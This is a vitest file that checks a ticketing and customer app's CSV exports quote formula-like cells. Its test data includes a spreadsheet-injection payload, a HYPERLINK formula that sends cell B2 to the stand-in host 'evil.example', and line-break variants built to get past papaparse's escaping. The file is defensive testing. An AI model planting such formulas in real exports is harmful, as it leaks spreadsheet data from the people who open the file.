import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, engines, type TestApp } from './testApp.ts';

/** A ticket subject that stayed a live formula: papaparse's pattern stopped at the line break. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")&\n""';
const CITY = '  +1+2\nMontréal';
const STAFF_FIRST_NAME = '@SUM(1+1)\r\nx';

describe.each(engines)('CSV exports keep formula-like cells inert on %s', (engine) => {
  let t: TestApp;
  let memberId: number;
  let staffId: number;

  const csv = async (url: string) => {
    const response = await t.app.inject({
      url,
      headers: { ...t.bearer({ email: 'sysadm@example.com', groups: ['SYSADM'] }), accept: 'text/csv' },
    });
    expect(response.statusCode, url).toBe(200);
    const [header, ...rows] = Papa.parse<string[]>(response.body.trim()).data;
    return { raw: response.body, cell: (row: number, column: string) => rows[row][header.indexOf(column)] };
  };

  beforeAll(async () => {
    t = await createTestApp(engine);
    ({ id: staffId } = await t.db
      .insertInto('staffs')
      .values({ email: 'sysadm@example.com', first_name: STAFF_FIRST_NAME, last_name: 'Lee', role: 'SYSADM' })
      .returning('id')
      .executeTakeFirstOrThrow());
    const member = await t.db
      .insertInto('customers')
      .values({
        customer_number: 'CSV-1',
        first_name: '\tAnn',
        last_name: HYPERLINK,
        email: 'ann@example.com',
        home_city: CITY,
        outstanding_balance: '-5.25',
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    memberId = Number(member.id);
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/tickets',
      headers: t.bearer({ email: 'sysadm@example.com', groups: ['SYSADM'] }),
      payload: {
        subject: HYPERLINK,
        categories: [12],
        customers: [String(memberId)],
        staff: staffId,
        department: 'Member Services',
        priority: 'High',
        status: 'New',
      },
    });
    expect(created.statusCode, created.body).toBe(201);
  });
  afterAll(() => t?.close());

  it('the ticket export quotes a multi-line subject and the names built from formula-like ones', async () => {
    const { cell } = await csv('/api/tickets');
    expect(cell(0, 'Subject')).toBe(`'${HYPERLINK}`);
    expect(cell(0, 'Members')).toBe(`'\tAnn ${HYPERLINK}`);
    expect(cell(0, 'Assigned to')).toBe(`'${STAFF_FIRST_NAME} Lee (SYSADM)`);
  });

  it('the member export quotes a multi-line last name, a city behind blanks, a tab first; a negative balance stays a number', async () => {
    const { raw, cell } = await csv('/api/customer-process/searchCustomer?customerNumber=CSV-1');
    expect(cell(0, 'Name')).toBe(`'\tAnn ${HYPERLINK}`);
    expect(cell(0, 'City')).toBe(`'${CITY}`);
    expect(cell(0, 'Balance')).toBe('-5.25');
    expect(raw).toContain(',-5.25,');
  });

  it('the staff export quotes a multi-line first name', async () => {
    const { cell } = await csv('/api/staffs');
    expect(cell(0, 'First name')).toBe(`'${STAFF_FIRST_NAME}`);
    expect(cell(0, 'Role')).toBe('System administrator (SYSADM)');
  });
});
